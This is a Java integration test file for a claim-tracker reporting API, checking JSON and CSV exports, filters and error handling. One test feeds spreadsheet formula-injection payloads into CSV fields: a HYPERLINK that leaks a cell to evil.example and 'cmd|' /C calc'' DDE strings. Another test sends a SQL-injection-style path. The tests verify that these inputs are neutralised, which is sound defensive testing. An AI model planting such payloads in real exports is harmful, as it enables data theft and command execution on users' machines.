package org.claimtracker.report;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.everyItem;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.hasItems;
import static org.hamcrest.Matchers.hasSize;
import static org.hamcrest.Matchers.is;
import static org.hamcrest.Matchers.notNullValue;
import static org.hamcrest.Matchers.nullValue;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.ExtractableResponse;
import io.restassured.response.Response;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.SQLException;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import org.claimtracker.support.Fixtures;
import org.claimtracker.support.TestDatabase;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

@QuarkusTest
class ReportApiTest {

    private static final LocalDate D = LocalDate.of(2018, 2, 5);
    private static final String TEXT = "Ministry Q says drones of P struck the depot. P denies it. Q says P, \"the\n"
            + "aggressor\", struck the depot twice. Q says P shelled the port.";
    private static final String TRICKY = "P, \"the\naggressor\", struck the depot twice";
    private static final int BULK = 300;

    private static long p;
    private static long q;
    private static long early;
    private static long middle;
    private static long late;
    private static long bulkParty;

    /** Built once and only read by the tests, so they do not depend on each other. */
    @BeforeEach
    void data() throws SQLException {
        if (bulkParty != 0) {
            return;
        }
        long article = Fixtures.article(TEXT, D.plusDays(60));
        p = Fixtures.state("Party P");
        q = Fixtures.party("Ministry Q", "government_body");
        early = Fixtures.claim(q, p, article, "drones of P struck the depot", D);
        Map<String, Object> tricky = Fixtures.claimBody(q, p, article, TRICKY, D.plusDays(10));
        tricky.put("proposition", TRICKY);
        middle = Fixtures.created("/api/claims", tricky);
        late = Fixtures.claim(q, p, article, "P shelled the port", D.plusDays(20));
        Fixtures.response(middle, p, "denies", D.plusDays(11), article, "P denies it.");

        long bulk = Fixtures.state("Bulk accused");
        try (Connection connection = TestDatabase.connect(); PreparedStatement insert = connection.prepareStatement("""
                insert into claim (claimant_id, addressed_party_id, proposition, kind, stated_on, created_by, updated_by)
                select ?, ?, 'Bulk claim ' || g, 'other', ?::date + (g % 30), 'report-test', 'report-test'
                  from generate_series(1, ?) g
                """)) {
            insert.setLong(1, q);
            insert.setLong(2, bulk);
            insert.setObject(3, D);
            insert.setInt(4, BULK);
            assertEquals(BULK, insert.executeUpdate());
        }
        bulkParty = bulk;
    }

    private static ExtractableResponse<Response> export(String path) {
        return given().get(path).then().statusCode(200).extract();
    }

    @Test
    void theListNamesEveryReportWithItsColumnsAndFilters() {
        given().get("/api/reports").then().statusCode(200)
                .body("name", contains(ReportCatalog.all().stream().map(ReportDefinition::name).toArray()))
                .body("find { it.name == 'claim_positions' }.view", is("reporting.claim_positions"))
                .body("find { it.name == 'claim_positions' }.dateColumn", is("claim_stated_on"))
                .body("find { it.name == 'claim_positions' }.asOf", is(true))
                .body("find { it.name == 'claim_positions' }.description", startsWith("One row per claim and party"))
                .body("find { it.name == 'claim_positions' }.columns.find { it.name == 'position' }.type", is("text"))
                .body("find { it.name == 'claim_positions' }.columns.find { it.name == 'position' }.description",
                        containsString("denied, confirmed"))
                .body("find { it.name == 'unresolved_claims' }.columns.find { it.name == 'age_days' }.type",
                        is("integer"))
                .body("find { it.name == 'outlet_claims' }.partyFilter", nullValue())
                .body("find { it.name == 'outlet_claims' }.asOf", is(false))
                .body("columns.flatten().description", everyItem(notNullValue()));
    }

    @Test
    void jsonRowsAreObjectsKeyedByColumnFilteredByPartyPeriodAndDate() {
        List<Map<String, Object>> rows = export("/api/reports/claim_positions?partyId=" + p).jsonPath().getList("$");
        assertEquals(List.of((int) early, (int) middle, (int) late), rows.stream().map(r -> r.get("claim_id")).toList());
        assertEquals(List.of("unresolved", "denied", "unresolved"), rows.stream().map(r -> r.get("position")).toList());
        Map<String, Object> denied = rows.get(1);
        assertEquals(D.plusDays(10).toString(), denied.get("claim_stated_on"));
        assertEquals("denies", denied.get("latest_stance"));
        assertEquals((int) q, denied.get("claimant_id"));
        assertTrue(rows.get(0).containsKey("latest_stance"));
        assertNull(rows.get(0).get("latest_stance"));

        given().get("/api/reports/claim_positions?partyId={p}&from={from}&to={to}", p, D.plusDays(5).toString(),
                        D.plusDays(15).toString())
                .then().statusCode(200).body("claim_id", contains((int) middle));
        given().get("/api/reports/claim_positions?partyId={p}&from={from}", p, D.plusDays(10).toString())
                .then().statusCode(200).body("claim_id", contains((int) middle, (int) late));
        given().get("/api/reports/claim_positions?partyId={p}&asOf={asOf}", p, D.plusDays(10).toString())
                .then().statusCode(200)
                .body("claim_id", contains((int) early, (int) middle))
                .body("position", contains("unresolved", "unresolved"));
        given().get("/api/reports/unresolved_claims?partyId={p}", p).then().statusCode(200)
                .contentType(startsWith("application/json"))
                .body("claim_id", contains((int) early, (int) late))
                .body("claim_withdrawn", contains(false, false))
                .body("age_days[0]", is(notNullValue()));
        given().get("/api/reports/position_summary_by_month?partyId={p}&from={from}", p, D.plusDays(3).toString())
                .then().statusCode(200)
                .body("claim_month", contains("2018-02-01"))
                .body("total", contains(3));
    }

    @Test
    void csvHasAHeaderRowAndQuotesFieldsAsRfc4180Says() {
        ExtractableResponse<Response> response = given().get("/api/reports/claims?partyId={p}&format=csv", p)
                .then().statusCode(200)
                .contentType(startsWith("text/csv"))
                .header("Content-Disposition", containsString("claims.csv"))
                .extract();
        String body = response.asString();
        List<List<String>> records = Csv.parse(body);
        List<String> header = records.get(0);
        List<String> columns = given().get("/api/reports").then().extract().jsonPath()
                .getList("find { it.name == 'claims' }.columns.name");
        assertEquals(columns, header);
        assertEquals(4, records.size());
        List<String> tricky = records.get(2);
        assertEquals(String.valueOf(middle), tricky.get(header.indexOf("claim_id")));
        assertEquals(TRICKY, tricky.get(header.indexOf("proposition")));
        assertEquals("", tricky.get(header.indexOf("incident_id")), "null is an empty field");
        assertEquals(D.plusDays(10).toString(), tricky.get(header.indexOf("claim_stated_on")));

        assertTrue(body.contains(",\"P, \"\"the\naggressor\"\", struck the depot twice\","), body);
    }

    @Test
    void csvTextThatASpreadsheetWouldRunStartsWithAnApostropheButNumbersKeepTheirSign() throws SQLException {
        String hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\") " + Fixtures.unique("grp");
        long formula = Fixtures.created("/api/parties", Map.of("name", hyperlink, "kind", "armed_group",
                "aliases", List.of("-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")));
        String plus = "+cmd|' /C calc'!A0 " + Fixtures.unique("x");
        long plusParty = Fixtures.created("/api/parties", Map.of("name", plus, "kind", "coalition"));
        long tab;
        long carriageReturn;
        String tabbed = "\tTabbed " + Fixtures.unique("p");
        String returned = "\rReturned " + Fixtures.unique("p");
        long accused = Fixtures.state("Accused in the future");
        try (Connection connection = TestDatabase.connect();
                PreparedStatement insert = connection.prepareStatement("insert into party (name, kind, created_by,"
                        + " updated_by) values (?, 'state', 'report-test', 'report-test') returning id");
                PreparedStatement future = connection.prepareStatement("insert into claim (claimant_id,"
                        + " addressed_party_id, proposition, kind, stated_on, created_by, updated_by)"
                        + " values (?, ?, '-1 claims a negative', 'other', current_date + 10, 'report-test', 'report-test')")) {
            insert.setString(1, tabbed);
            var rows = insert.executeQuery();
            rows.next();
            tab = rows.getLong(1);
            insert.setString(1, returned);
            rows = insert.executeQuery();
            rows.next();
            carriageReturn = rows.getLong(1);
            future.setLong(1, q);
            future.setLong(2, accused);
            assertEquals(1, future.executeUpdate());
        }

        Map<Long, List<String>> byParty = new java.util.HashMap<>();
        for (long party : List.of(formula, plusParty, tab, carriageReturn)) {
            List<List<String>> records = Csv.parse(given().get("/api/reports/parties?partyId={p}&format=csv", party)
                    .then().statusCode(200).extract().asString());
            assertEquals(2, records.size());
            byParty.put(party, records.get(1));
        }
        List<String> header = Csv.parse(given().get("/api/reports/parties?partyId={p}&format=csv", formula)
                .then().extract().asString()).get(0);
        int name = header.indexOf("party_name");
        int aliases = header.indexOf("aliases");
        assertEquals("'" + hyperlink, byParty.get(formula).get(name));
        assertEquals("'-2+3+cmd|' /C calc'!A0; @SUM(1+1)*cmd|' /C calc'!A0", byParty.get(formula).get(aliases),
                "only the cell's first character counts");
        assertEquals("'" + plus, byParty.get(plusParty).get(name));
        assertEquals("'" + tabbed, byParty.get(tab).get(name));
        assertEquals("'" + returned, byParty.get(carriageReturn).get(name));
        given().get("/api/reports/parties?partyId={p}", formula).then().statusCode(200)
                .body("[0].party_name", is(hyperlink));

        List<List<String>> unresolved = Csv.parse(given().get("/api/reports/unresolved_claims?partyId={p}&format=csv",
                accused).then().statusCode(200).extract().asString());
        List<String> columns = unresolved.get(0);
        assertEquals("-10", unresolved.get(1).get(columns.indexOf("age_days")), "a number column keeps its sign");
        assertEquals("'-1 claims a negative", unresolved.get(1).get(columns.indexOf("proposition")));
    }

    @Test
    void theAcceptHeaderChoosesTheFormatUnlessFormatIsGiven() {
        given().accept("text/csv").get("/api/reports/unresolved_claims?partyId={p}", p).then().statusCode(200)
                .contentType(startsWith("text/csv"))
                .body(startsWith("claim_id,claim_ref,proposition,"))
                .body(containsString(",false\r\n"));
        given().accept("application/json").get("/api/reports/unresolved_claims?partyId={p}", p).then()
                .statusCode(200).contentType(startsWith("application/json")).body("claim_id", hasSize(2));
        given().accept("text/csv").get("/api/reports/unresolved_claims?partyId={p}&format=json", p).then()
                .statusCode(200).contentType(startsWith("application/json"));
        given().get("/api/reports/unresolved_claims?partyId={p}", p).then()
                .statusCode(200).contentType(startsWith("application/json"));
    }

    @Test
    void largeResultsAreSentInFullWithTheirLength() {
        ExtractableResponse<Response> json = export("/api/reports/claim_positions?partyId=" + bulkParty);
        assertNull(json.header("Transfer-Encoding"));
        assertEquals(String.valueOf(json.asByteArray().length), json.header("Content-Length"));
        List<String> dates = json.jsonPath().getList("claim_stated_on");
        assertEquals(BULK, dates.size());
        assertEquals(dates.stream().sorted().toList(), dates, "in the report's order");
        assertEquals(BULK, json.jsonPath().getList("findAll { it.position == 'unresolved' }").size());

        ExtractableResponse<Response> csv = export("/api/reports/claim_positions?format=csv&partyId=" + bulkParty);
        assertEquals(String.valueOf(csv.asByteArray().length), csv.header("Content-Length"));
        assertEquals(BULK + 1, Csv.parse(csv.asString()).size());

        List<String> window = export("/api/reports/claim_positions?partyId=" + bulkParty + "&from=" + D.plusDays(10)
                + "&to=" + D.plusDays(12)).jsonPath().getList("claim_stated_on");
        assertEquals(3 * BULK / 30, window.size());
        assertTrue(window.stream().allMatch(d -> d.compareTo(D.plusDays(10).toString()) >= 0
                && d.compareTo(D.plusDays(12).toString()) <= 0), window.toString());
    }

    @Test
    void badRequestsAreProblemsNamingTheParameter() {
        given().get("/api/reports/no_such_report").then().statusCode(404)
                .contentType("application/problem+json").body("detail", containsString("no_such_report"));
        given().get("/api/reports/claims' or '1'='1").then().statusCode(404)
                .contentType("application/problem+json");
        Map<String, String> badParameters = Map.of(
                "claims?partyId=seven", "partyId",
                "claims?partyId=-1", "partyId",
                "claims?format=xml", "format",
                "claims?from=2020-02-30", "from",
                "claims?from=2020-02-10&to=2020-02-01", "to",
                "outlet_claims?partyId=1", "partyId",
                "parties?from=2020-01-01", "from",
                "position_summary?to=2020-01-01", "to",
                "claims?asOf=2020-01-01", "asOf",
                "claim_positions?asOf=yesterday", "asOf");
        badParameters.forEach((path, field) -> given().get("/api/reports/" + path).then().statusCode(400)
                .contentType("application/problem+json").body("field", equalTo(field)));
        given().accept("text/csv").get("/api/reports/claims?partyId=x").then().statusCode(400)
                .contentType("application/problem+json").body("field", is("partyId"));
    }

    @Test
    void theOpenApiDescriptionListsTheReportEndpoints() {
        given().accept("application/json").get("/q/openapi").then().statusCode(200)
                .body("paths.keySet()", hasItems("/api/reports", "/api/reports/{name}"))
                .body("paths.'/api/reports/{name}'.get.tags", hasItem("Reports"))
                .body("paths.'/api/reports/{name}'.get.summary", notNullValue())
                .body("paths.'/api/reports/{name}'.get.responses.'200'.content.keySet()",
                        hasItems("application/json", "text/csv"))
                .body("paths.'/api/reports/{name}'.get.responses.'404'.content.'application/problem+json'",
                        notNullValue())
                .body("paths.'/api/reports/{name}'.get.parameters.find { it.name == 'partyId' }.schema.type",
                        is("integer"))
                .body("paths.'/api/reports/{name}'.get.parameters.find { it.name == 'from' }.schema.format",
                        is("date"));
    }
}
